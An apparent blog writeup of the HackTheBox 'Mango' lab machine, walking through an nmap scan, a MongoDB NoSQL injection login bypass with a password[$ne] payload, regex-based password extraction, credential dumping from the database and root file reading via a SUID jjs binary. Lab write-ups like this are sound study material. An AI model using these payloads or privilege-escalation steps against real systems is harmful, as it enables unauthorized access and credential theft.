Header Image

Roman Hergenreder

Computer Science Student & Software Developer

[machine avatar]

HackTheBox Mango - Writeup

Release Date:2019/10/26 19:00
Last modified: 2020-08-04 15:07:30 + Give Respect

Starting with a nmap-scan gives us the following results:$ nmap -A -T 5 -p-
22/tcp open ssh OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:
| 2048 a8:8f:d9:6f:a6:e4:ee:56:e3:ef:54:54:6d:56:0c:f5 (RSA)
| 256 6a:1c:ba:89:1e:b0:57:2f:fe:63:e1:61:72:89:b4:cf (ECDSA)
|_ 256 90:70:fb:6f:38:ae:dc:3b:0b:31:68:64:b0:4e:7d:c9 (ED25519)
80/tcp open http Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: 403 Forbidden
443/tcp open ssl/http Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)|_http-title: 400 Bad Request
| ssl-cert: Subject: commonName=staging-order.mango.htb/organizationName=Mango Prv Ltd./stateOrProvinceName=None/countryName=IN
| Not valid before: 2019-09-27T14:21:19
|_Not valid after: 2020-09-26T14:21:19
|_ssl-date: TLS randomness does not represent time
| tls-alpn:
|_ http/1.1

A http and https port is opened on this machine, but we cannot access pages on the plain http port, as the server always respondswith 403 Forbidden. Investigating the encrypted port, we can firstly obtain a domain: staging-order.mango.htb, let's keep it for later researchs. The page on doesn't look really interesting, a search form, where everything leads to zero results and an analytics.php page with some sample data. I tried different injections in the search form but nothing worked.

We can access the site on the given domain by adding it to /etc/hosts like shown below:$ echo ' staging-order.mango.htb' >> /etc/hosts

This page looks even more interesting: We've got a login form. But we don't have any credentials yet, bruteforcing both username and password would be quite slow. sqlmap does not seem to yield in any results. But the name Mango gives us an important hint, which we can even obtain by searching for Mango Database: It auto-corrects to MongoDB. Let's try some MongoDB injections. In the network tab of the browser (or using burp), we can modify the POST-parameters like shown this OWASP-Paper. Note: I got the username from a hint in the forum, but it can be obtained using the regex search algorithm.

$ curl -i -X POST http://staging-order.mango.htb/ -d "username=mango&password[\$ne]=1" -s -o /dev/null -v
< HTTP/1.1 302 Found
< Date: Sat, 18 Jan 2020 18:59:33 GMT
< Server: Apache/2.4.29 (Ubuntu)
< Set-Cookie: PHPSESSID=b5tc1676hjn6qlog19no781570; path=/
< Expires: Thu, 19 Nov 1981 08:52:00 GMT
< Cache-Control: no-store, no-cache, must-revalidate
< Pragma: no-cache
< location: home.php
< Content-Length: 4022
< Content-Type: text/html; charset=UTF-8

The request forwards us to home.php instead of just back to index.php. The login obviously worked and using the cookie, we can see the following screen. So nothing to see here, but with the knowledge the injection worked, we can do a structured bruteforce: In nosql, $regex can be used, to perform a search using regular expressions. We can simply build our password by iterating char-by-char. I wrote a little python script, which sends a request for everychar, starting with ^a.*. I had to escape chars in this charset: .^$*+()[{\|?. After some time, the password was printed:

[mango home]
$ python exploit.py
trying: h3mXK8RhU~f\{]f5H

Using this password we can login as user mango on the ssh port:

$ ssh mango@
mango@'s password: h3mXK8RhU~f{]f5H
Welcome to Ubuntu 18.04.2 LTS (GNU/Linux 4.15.0-64-generic x86_64)


For the last step, we need to check the contents of the MongoDB again, which gives us another login:

mango@mango:~$ mongo
MongoDB shell version v4.0.12
connecting to: mongodb://
> show dbs
admin 0.000GB
config 0.000GB
local 0.000GB
mango 0.000GB
> use mango
switched to db mango
> show tables
> db.getCollection("users").find()
{ "_id" : ObjectId("5d8e25334f3bf1432628927b"), "username" : "admin", "password" : "t9KcS3>!0B#2" }
{ "_id" : ObjectId("5d8e25364f3bf1432628927c"), "username" : "mango", "password" : "h3mXK8RhU~f{]f5H" }

Using the admin password we can login as the local user and obtain the user flag:mango@mango:~$ su admin -s /bin/bash
Password: t9KcS3>!0B#2
admin@mango:/home/mango$ cat ~/user.txt

For root part, we firstly execute our information gathering tool: LinEnum.sh. As the output may be very big, i will just focus straight on the solution.

admin@mango:~$ bash LinEnum.sh
[+] Possibly interesting SUID files:
-rwsr-sr-- 1 root admin 10352 Jul 18 2019 /usr/lib/jvm/java-11-openjdk-amd64/bin/jjs

The command above will run with root privileges as the SUID bit is set, but we have to be in the admin group. jjs is said to invoking the Nashorn engine. Running this command, it willgive us a CLI. Using jjs we can access java-packages and execute code. So we can simply create a FileReader and output the root flag:

admin@mango:~$ jjs
jjs> var FileReader = Java.type("java.io.FileReader");
jjs> var BufferedReader = Java.type("java.io.BufferedReader");
jjs> var olinkfile = "/root/root.txt";
jjs> var fr = new FileReader(olinkfile);
jjs> var br = new BufferedReader(fr);
jjs> print(br.readLine());
jjs> br.close();

The name Mango was a big hint, that MongoDB was used.The used exploit worked due to the fact, that php transforms request parameters ending with [.*] into an array. $ne refers to not-equal. The executed request would look like this:

# Actual code:
$collection->find(array('user' => $_GET['user'], 'password' => $_GET['password']));

# GET http://staging-order.mango.htb/index.php?username=mango&password=test$collection->find(array('user' =>'mango', 'password' => 'test'));

# GET http://staging-order.mango.htb/index.php?username=mango&password[$ne]=test$collection->find(array('user' => 'mango', 'password' => array('$ne' => 'test')));